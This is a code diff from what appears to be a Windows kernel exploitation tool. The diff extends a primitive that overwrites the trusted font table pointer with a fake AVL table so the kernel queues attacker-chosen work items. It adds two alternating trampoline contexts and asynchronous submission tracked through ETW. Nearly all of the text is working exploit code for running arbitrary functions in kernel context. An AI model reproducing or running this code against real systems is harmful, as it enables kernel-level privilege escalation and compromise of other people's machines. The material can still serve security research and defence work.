@@ -30,15 +30,76 @@ typedef struct _CONTEXT_PAGE
 } CONTEXT_PAGE, *PCONTEXT_PAGE;
 
 //
-// Tracks execution state between calls
+// Internal definitions
+//
+#define KERNEL_EXECUTE_TRAMPOLINES  2
+
+//
+// A trampoline context, along with its kernel copy
+//
+typedef struct _TRAMPOLINE_SLOT
+{
+    PKERNEL_ALLOC Allocation;
+    PCONTEXT_PAGE Context;
+    PRTL_BALANCED_LINKS Parameter;
+    PKERNEL_REQUEST Request;
+} TRAMPOLINE_SLOT, *PTRAMPOLINE_SLOT;
+
+//
+// Tracks execution state between calls. Two trampoline contexts are used in
+// turn, so that the next work item can be set up and triggered while the
+// kernel still runs the one queued from the other.
 //
 typedef struct _KERNEL_EXECUTE
 {
     PXSGLOBALS Globals;
-    PKERNEL_ALLOC TrampolineAllocation;
-    PRTL_BALANCED_LINKS TrampolineParameter;
+    TRAMPOLINE_SLOT Trampolines[KERNEL_EXECUTE_TRAMPOLINES];
+    ULONG NextTrampoline;
 } KERNEL_EXECUTE, *PKERNEL_EXECUTE;
 
+PVOID
+KernelpGetWorkItem (
+    _In_ PKERNEL_EXECUTE KernelExecute
+    )
+{
+    PCONTEXT_PAGE contextBuffer;
+
+    //
+    // Return the kernel address of the work item that the next run queues,
+    // which is what the worker thread events report
+    //
+    contextBuffer = (PCONTEXT_PAGE)KernelExecute->
+                    Trampolines[KernelExecute->NextTrampoline].Parameter;
+    return &contextBuffer->WorkItem;
+}
+
+VOID
+KernelpAbandonTrampoline (
+    _In_ PKERNEL_EXECUTE KernelExecute,
+    _In_ PVOID WorkItem
+    )
+{
+    PTRAMPOLINE_SLOT trampoline;
+    ULONG i;
+
+    //
+    // Find the trampoline context that queued this work item, and leave its
+    // kernel copy allocated since the kernel may not be done with it. A new
+    // one gets set up the next time that trampoline is used.
+    //
+    for (i = 0; i < KERNEL_EXECUTE_TRAMPOLINES; i++)
+    {
+        trampoline = &KernelExecute->Trampolines[i];
+        if ((trampoline->Allocation != NULL) &&
+            (&((PCONTEXT_PAGE)trampoline->Parameter)->WorkItem == WorkItem))
+        {
+            KernelAbandon(trampoline->Allocation);
+            RtlZeroMemory(trampoline, sizeof(*trampoline));
+            break;
+        }
+    }
+}
+
 _Success_(return != 0)
 BOOL
 KernelExecuteRun (
@@ -46,6 +107,7 @@ KernelExecuteRun (
     )
 {
     PRTL_AVL_TABLE realTable, fakeTable;
+    PTRAMPOLINE_SLOT trampoline;
     BOOL b;
 
     //
@@ -67,7 +129,8 @@ KernelExecuteRun (
     // Save the original trusted font file table and overwrite it with our own.
     //
     fakeTable = (PRTL_AVL_TABLE)((KernelExecute->Globals) + 1);
-    fakeTable->BalancedRoot.RightChild = KernelExecute->TrampolineParameter;
+    trampoline = &KernelExecute->Trampolines[KernelExecute->NextTrampoline];
+    fakeTable->BalancedRoot.RightChild = trampoline->Parameter;
     KernelExecute->Globals->TrustedFontsTable = fakeTable;
 
     //
@@ -85,6 +148,15 @@ KernelExecuteRun (
     {
         printf("[-] Failed to add font: %lx\n", GetLastError());
     }
+    else
+    {
+        //
+        // The work item is now queued, so the other trampoline context gets
+        // used for the next one
+        //
+        KernelExecute->NextTrampoline = (KernelExecute->NextTrampoline + 1) %
+                                        KERNEL_EXECUTE_TRAMPOLINES;
+    }
 
     //
     // Restore original pointer and thread priority
@@ -99,10 +171,18 @@ KernelExecuteTeardown (
     _In_ PKERNEL_EXECUTE KernelExecute
     )
 {
+    ULONG i;
+
     //
-    // Free the trampoline context
+    // Free the trampoline contexts that were set up
     //
-    KernelFree(KernelExecute->TrampolineAllocation);
+    for (i = 0; i < KERNEL_EXECUTE_TRAMPOLINES; i++)
+    {
+        if (KernelExecute->Trampolines[i].Allocation != NULL)
+        {
+            KernelFree(KernelExecute->Trampolines[i].Allocation);
+        }
+    }
 
     //
     // Unmap the globals
@@ -234,16 +314,53 @@ KernelExecuteSetCallback (
     )
 {
     PCONTEXT_PAGE contextBuffer;
-    PKERNEL_ALLOC kernelAlloc;
+    PTRAMPOLINE_SLOT trampoline;
 
     //
-    // Allocate the right child page that will be sent to the trampoline
+    // Set up the trampoline context that the next run will use
     //
-    contextBuffer = KernelAlloc(&kernelAlloc, sizeof(*contextBuffer));
-    if (contextBuffer == NULL)
+    trampoline = &KernelExecute->Trampolines[KernelExecute->NextTrampoline];
+
+    //
+    // Each trampoline context is allocated once, and kept around until the
+    // payload changes
+    //
+    if (trampoline->Allocation == NULL)
     {
-        printf("[-] Failed to allocate memory for WORK_QUEUE_ITEM\n");
-        return FALSE;
+        //
+        // Allocate the right child page that will be sent to the trampoline
+        //
+        contextBuffer = KernelAlloc(&trampoline->Allocation,
+                                    sizeof(*contextBuffer));
+        if (contextBuffer == NULL)
+        {
+            printf("[-] Failed to allocate memory for WORK_QUEUE_ITEM\n");
+            return FALSE;
+        }
+    }
+    else if ((trampoline->Context->WorkItem.WorkerRoutine == WorkFunction) &&
+             (trampoline->Context->WorkItem.Parameter == WorkParameter))
+    {
+        //
+        // Same work item as last time, so the kernel copy can be used as is,
+        // since worker threads clear its list entry before calling it
+        //
+        return TRUE;
+    }
+    else
+    {
+        //
+        // Pipe buffers can't be written in place, so swap the kernel copy out
+        // for a new one, reusing the same pipe
+        //
+        contextBuffer = KernelRefresh(trampoline->Allocation);
+        if (contextBuffer == NULL)
+        {
+            printf("[-] Failed to refresh memory for WORK_QUEUE_ITEM\n");
+            KernelFree(trampoline->Allocation);
+            trampoline->Allocation = NULL;
+            return FALSE;
+        }
     }
 
     //
@@ -251,14 +368,16 @@ KernelExecuteSetCallback (
     //
     contextBuffer->WorkItem.WorkerRoutine = WorkFunction;
     contextBuffer->WorkItem.Parameter = WorkParameter;
+    trampoline->Context = contextBuffer;
 
     //
     // Write into the buffer
     //
-    contextBuffer = (PCONTEXT_PAGE)KernelWrite(kernelAlloc);
+    contextBuffer = (PCONTEXT_PAGE)KernelWrite(trampoline->Allocation);
     if (contextBuffer == NULL)
     {
-        KernelFree(kernelAlloc);
+        KernelFree(trampoline->Allocation);
+        trampoline->Allocation = NULL;
         printf("[-] Failed to find kernel memory for WORK_QUEUE_ITEM\n");
         return FALSE;
     }
@@ -266,7 +385,111 @@ KernelExecuteSetCallback (
     //
     // Return the balanced links with the appropriate work item
     //
-    KernelExecute->TrampolineAllocation = kernelAlloc;
-    KernelExecute->TrampolineParameter = &contextBuffer->Header;
+    trampoline->Parameter = &contextBuffer->Header;
+    return TRUE;
+}
+
+_Success_(return != 0)
+BOOL
+KernelExecuteComplete (
+    _In_ PKERNEL_EXECUTE KernelExecute,
+    _Inout_ PKERNEL_REQUEST Request
+    )
+{
+    ULONG i;
+
+    //
+    // Requests that never ran, or were already completed, keep their result
+    //
+    if (Request->Pending == FALSE)
+    {
+        return Request->Succeeded;
+    }
+
+    //
+    // Wait for the work item to finish, which frees up its trampoline context
+    //
+    Request->Succeeded = EtwParseSession(Request->EtwData);
+    Request->Pending = FALSE;
+    for (i = 0; i < KERNEL_EXECUTE_TRAMPOLINES; i++)
+    {
+        if (KernelExecute->Trampolines[i].Request == Request)
+        {
+            KernelExecute->Trampolines[i].Request = NULL;
+        }
+    }
+
+    //
+    // If it didn't finish in time, the kernel may still be using the
+    // trampoline context, so it is left allocated
+    //
+    if (Request->Succeeded == FALSE)
+    {
+        KernelpAbandonTrampoline(KernelExecute, Request->WorkItem);
+    }
+    return Request->Succeeded;
+}
+
+_Success_(return != 0)
+BOOL
+KernelExecuteSubmit (
+    _In_ PKERNEL_EXECUTE KernelExecute,
+    _Out_ PKERNEL_REQUEST Request,
+    _In_ PVOID WorkFunction,
+    _In_ PVOID WorkParameter
+    )
+{
+    PTRAMPOLINE_SLOT trampoline;
+    BOOL b;
+
+    //
+    // The trampoline context this work item goes through may still be used
+    // by an earlier one, which has to finish before the context is reused.
+    // Don't queue anything else behind a work item that is overdue.
+    //
+    RtlZeroMemory(Request, sizeof(*Request));
+    trampoline = &KernelExecute->Trampolines[KernelExecute->NextTrampoline];
+    if ((trampoline->Request != NULL) &&
+        (KernelExecuteComplete(KernelExecute, trampoline->Request) == FALSE))
+    {
+        return FALSE;
+    }
+
+    //
+    // Initialize a work item for the function and its parameter
+    //
+    b = KernelExecuteSetCallback(KernelExecute, WorkFunction, WorkParameter);
+    if (b == FALSE)
+    {
+        printf("[-] Failed to initialize work item trampoline\n");
+        return b;
+    }
+
+    //
+    // Begin ETW tracing to look for the work item executing
+    //
+    Request->WorkItem = KernelpGetWorkItem(KernelExecute);
+    b = EtwStartSession(&Request->EtwData,
+                        Request->WorkItem,
+                        WorkFunction,
+                        WorkParameter);
+    if (b == FALSE)
+    {
+        printf("[-] Failed to start ETW trace\n");
+        return b;
+    }
+
+    //
+    // Execute it, without waiting for it to finish
+    //
+    b = KernelExecuteRun(KernelExecute);
+    if (b == FALSE)
+    {
+        printf("[-] Failed to execute work item\n");
+        EtwAbortSession(Request->EtwData);
+        return b;
+    }
+    Request->Pending = TRUE;
+    trampoline->Request = Request;
     return TRUE;
 }